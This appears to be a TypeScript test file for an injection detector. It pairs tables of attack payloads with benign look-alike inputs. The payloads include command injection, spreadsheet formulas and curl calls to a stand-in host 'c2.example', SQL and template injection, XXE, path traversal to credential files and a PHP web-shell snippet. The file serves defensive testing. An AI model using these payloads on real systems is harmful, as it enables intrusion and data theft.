// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are payloads, not templates
import { testTable } from './attack-tables.contract.ts';

// Attack: short commands, options, redirections and formulas, which no list of whole command lines has.
testTable('attack', {
  'a tool behind a separator': [
    '10.0.0.7&&nslookup a.c2.example',
    ';kill -9 17',
    ';docker ps',
    ';kubectl get secrets',
    '|dig a.c2.example',
  ],
  'a tool of an operator': [
    ';systemctl stop ssh',
    ';chmod 4755 /x',
    ';ps aux',
    ';busybox id',
    ';telnet c2.example 23',
    ';dd if=/dev/sdb',
  ],
  'an output that is written': ['x;>/var/www/a', ';echo 1>/tmp/a', '| printf x >> ~/a'],
  'a program of Windows': ['& start calc', '&& start /b cmd', '& notepad.exe'],
  'an option that runs something': [
    '-oProxyCommand=touch /tmp/a',
    '--receive-pack=id',
    '--output=/var/www/a.php',
    'ext::sh -c id',
  ],
  'a formula that starts a program': [
    "=cmd|'/C notepad'!A1",
    "+msexcel|'/x calc'!_xlbgnm.A1",
    '=WEBSERVICE("http://c2.example/?"&A1)',
  ],
  'a name with nothing inside of it': [';wh$()oami', 'a;i$( )d'],
});

// Attack: a way up of one step, and the secrets of containers, clusters and frameworks.
testTable('attack', {
  'one step up to code': ['../index.php', '../main.py', '..\\appsettings.json', './../.htpasswd', 'x/../config.yml'],
  'secrets of containers': [
    '/run/secrets/api_key',
    '/var/run/secrets/kubernetes.io/serviceaccount/ca.crt',
    '/run/docker.sock',
    '/.dockerenv',
  ],
  'secrets of servers': ['/etc/kubernetes/kubelet.conf', '/etc/ssl/private/site.key', 'config/master.key'],
  'a parameter of a segment': ['/app/..;/manager/status', '/a/..;x=1/b'],
  'addresses of data': ['data://text/plain;base64,PD9waHA=', 'data:;base64,PD9waHA='],
  'a share by way of the web': ['\\\\c2.example@80\\x', '\\\\203.0.113.9\\c$'],
});

// Attack: templates that show secrets, ask resolvers, or only try whether they are read.
testTable('attack', {
  'secrets by their names': ['{{ .Env.DB_PASSWORD }}', '{{.Secret}}', '${app.secretKey}', '{{ a.b.0.signer.x }}'],
  'the inside of an object': ["{{lookup (lookup this 'constructor') 'name'}}", '{{ cycler }}', '{{ joiner }}'],
  'a comparison or a sum': ['{{2==2}}', '{{ 1 != 2 }}', '[(3*9)]'],
  'a resolver': ['${dns:address|c2.example}', '${const:java.lang.X}', '${script:js:1+1}'],
});

// Attack: truths, prototypes and schemas that are written in another way.
testTable('attack', {
  'truths in disguise': ['7 or 0x31', '7 or ~0', '7 or !0', '7 or not 0', '7 or id', '7 or 1 in (1)'],
  'a prototype in an object': ['{"constructor":{"prototype":{"a":1}}}'],
  'a schema from within': [
    '<a xsi:schemaLocation="urn:x http://inner/x.xsd"/>',
    '<xs:import schemaLocation="http://10.0.0.3/x.xsd"/>',
    '<a xsi:noNamespaceSchemaLocation="file:///etc/hostname"/>',
  ],
  'a type at an address that only looks known': [
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org.c2.example/svg11.dtd"><svg/>',
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://c2.example/PropertyList-1.0.dtd"><plist/>',
  ],
});

// Attack: an agent is logged, stored and shown like any value, and so its text may do what theirs may.
testTable(
  'attack',
  {
    'queries in an agent': ["Mozilla/5.0' or 1=1-- -", "x' union select 1,2-- -", 'Mozilla/5.0 (select(sleep(5)))'],
    'scripts in an agent': ['Mozilla/5.0 <svg onload=alert(1)>', '"><script src=//c2.example></script>'],
    'templates in an agent': ['Mozilla/5.0 {{7*7}}', "{{''.__class__.__mro__}}", '${7*7}'],
    'files in an agent': ['../../../../etc/passwd', 'Mozilla/5.0 /etc/passwd', 'php://filter/resource=x'],
    'entities in an agent': ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'],
    'commands in an agent': ['Mozilla/5.0;id', 'x|whoami', 'Mozilla/5.0 ;kubectl get pods', 'a && curl c2.example'],
  },
  'user-agent',
);

// Attack: what is judged as a whole body is no less an attack than as a value.
testTable(
  'attack',
  { 'a query as a body': ["1' union select 1,2-- -", "x';waitfor delay '0:0:9'--", '1 and sleep(9)'] },
  'body',
);

// Attack: polite words before and behind.
testTable('attack', {
  'in a sentence': [
    'The label says 1;shutdown and nobody here knows why, could you please check it?',
    'The label says id,(select pin from users limit 1) and nobody here knows why, could you check it?',
    "The label says 1 into outfile '/var/www/a.php' and nobody here knows why, could you check it?",
    'The label says x$(curl c2.example) and nobody here knows why, could you please check it?',
    'The label says ;crontab -l and nobody here knows why, could you please check it?',
    'The label says ;tac /etc/passwd and nobody here knows why, could you please check it?',
    'The label says /etc/passwd and nobody here knows why, could you please check it?',
    'The label says ../.env and nobody here knows why, could you please check it?',
  ],
});

testTable('honest', {
  'semicolons in talk': [
    "it's 5 o'clock; call me",
    'Frau Maier; use the side door',
    'pump 3 is off; return it',
    'x; set point 21',
    'gas;service due',
  ],
  'comparisons in talk': ["5 > 3 and 2 < 4, isn't it?", '1 or 2', '5 and 6'],
  'code of flows': ['return msg.payload * 2;', '$sum(Account.Order.Product.(Price * Quantity))', '$__timeFilter(time)'],
  'lines of measurements': ['power,host=a value=1,x="y" 1725000000\n'.repeat(200)],
  'names that are words': [
    'drop table legs',
    'net use funktioniert nicht',
    'javascript: the good parts',
    'Typ 2 & Cat 6 Kabel',
  ],
  'types of GraphQL': [
    'query Q($where: meter_bool_exp = {id: {_eq: 5}}) { meter(where: $where) { id } }',
    'query Q($a: Int, $in: [Int!]) { meters(ids: $in) { id } }',
  ],
  drawings: ['<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0L1 1"/></svg>'],
  players: ['<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>'],
  paths: ['../images/logo.png', '/plant/1/line/2/', '/api/v1/label/__name__/values', '\\\\server\\share\\Export.xlsx'],
  schemas: ['<gpx xsi:schemaLocation="http://www.topografix.com/GPX/1/1 http://www.topografix.com/GPX/1/1/gpx.xsd">'],
});

testTable(
  'honest',
  {
    'documents with types that are known': [
      '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
      '<?xml version="1.0"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>',
    ],
    'requests in a batch': [
      '--b\r\nContent-Type: application/http\r\n\r\nGET /odata/x HTTP/1.1\r\nAccept: */*\r\n\r\n--b--\r\n',
    ],
  },
  'body',
);
testTable(
  'honest',
  {
    agents: [
      'Mozilla/5.0 (Java; U; Id; lg-a230) UCBrowser8.3',
      'WordPress/6.5; http://127.0.0.1:8080',
      'check_http/v2.3.3 (nagios-plugins 2.3.3)',
    ],
  },
  'user-agent',
);

// Attack: a program in a file that is no text.
testTable(
  'attack',
  {
    'code in a file': [
      'GIF89a;<?php system($_GET[1]);',
      '<%@ page import="java.io.*" %>',
      '<!ENTITY x SYSTEM "file:///a">',
    ],
  },
  'binary',
);
testTable(
  'honest',
  { 'runs of a file': ['PK x|cat;id `ls` $(id)', "' or 1=1-- -", '<?xpacket begin="" id="W5M0"?>', '<% 5 %'] },
  'binary',
);
